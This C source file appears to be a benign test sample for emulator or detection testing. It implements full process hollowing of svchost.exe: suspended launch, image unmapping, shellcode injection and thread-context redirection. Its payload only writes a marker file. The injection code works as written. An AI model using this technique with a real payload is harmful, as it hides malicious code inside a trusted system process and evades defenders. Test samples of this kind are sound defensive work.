/*
 * injector.c - generality suite: process hollowing, T1055.012 (benign, emulator-only).
 *
 * Starts C:\Windows\System32\svchost.exe suspended, unmaps its image
 * (ntdll!ZwUnmapViewOfSection, resolved with GetProcAddress, at the image base read from the
 * process's PEB with ReadProcessMemory), writes the shellcode embedded in this EXE's data and
 * its context block into new memory of the process (VirtualAllocEx, WriteProcessMemory twice),
 * points the thread's start at it (GetThreadContext, SetThreadContext: Rcx, the entry the
 * initial thread starts, and Rip; Eax and Eip on x86) and resumes the thread (ResumeThread). The shellcode
 * (../../lineage-common/payload_self.c) writes C:\Users\Public\lineage_hollow.txt.
 * Exit codes: 0 ok, 1 no marker, 2 process, 3 memory, 4 thread.
 */
#include "common.h"
#include "blobs.h"

#define CTX_OFFSET 0x800

typedef LONG (WINAPI *ZwUnmapViewOfSection_t)(HANDLE, PVOID);

void Entry(void)
{
    static struct sc_ctx ctx;
    static CONTEXT tc;
    static char cmd[] = "C:\\Windows\\System32\\svchost.exe";
    STARTUPINFOA si;
    PROCESS_INFORMATION pi;
    unsigned char *si_bytes = (unsigned char *)&si;
    unsigned char *code;
    ZwUnmapViewOfSection_t unmap;
    PVOID image = 0;
    SIZE_T written;
    DWORD i;

    if (!marker_present())
        ExitProcess(1);
    for (i = 0; i < sizeof(si); i++)
        si_bytes[i] = 0;
    si.cb = sizeof(si);
    if (!CreateProcessA(0, cmd, 0, 0, FALSE, CREATE_SUSPENDED, 0, 0, &si, &pi))
        ExitProcess(2);
    tc.ContextFlags = CONTEXT_FULL;
    if (!GetThreadContext(pi.hThread, &tc))
        ExitProcess(4);
    /* PEB.ImageBaseAddress; Rdx (x64) or Ebx (x86) holds the PEB when the initial thread starts. */
#ifdef _WIN64
    ReadProcessMemory(pi.hProcess, (PVOID)(tc.Rdx + 0x10), &image, sizeof(image), &written);
#else
    ReadProcessMemory(pi.hProcess, (PVOID)(tc.Ebx + 0x8), &image, sizeof(image), &written);
#endif
    unmap = (ZwUnmapViewOfSection_t)(void *)GetProcAddress(GetModuleHandleA("ntdll.dll"), "ZwUnmapViewOfSection");
    if (!unmap)
        ExitProcess(3);
    unmap(pi.hProcess, image);
    code = (unsigned char *)VirtualAllocEx(pi.hProcess, 0, 0x1000, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE);
    if (!code)
        ExitProcess(3);
    fill_ctx(&ctx, "C:\\Users\\Public\\lineage_hollow.txt", "hollowed out svchost\n");
    if (!WriteProcessMemory(pi.hProcess, code, payload, sizeof(payload), &written) ||
        !WriteProcessMemory(pi.hProcess, code + CTX_OFFSET, &ctx, sizeof(ctx), &written))
        ExitProcess(3);
#ifdef _WIN64
    tc.Rcx = (DWORD64)code;
    tc.Rip = (DWORD64)code;
#else
    tc.Eax = (DWORD)code;
    tc.Eip = (DWORD)code;
#endif
    if (!SetThreadContext(pi.hThread, &tc) || ResumeThread(pi.hThread) == (DWORD)-1)
        ExitProcess(4);
    CloseHandle(pi.hThread);
    CloseHandle(pi.hProcess);
    ExitProcess(0);
}
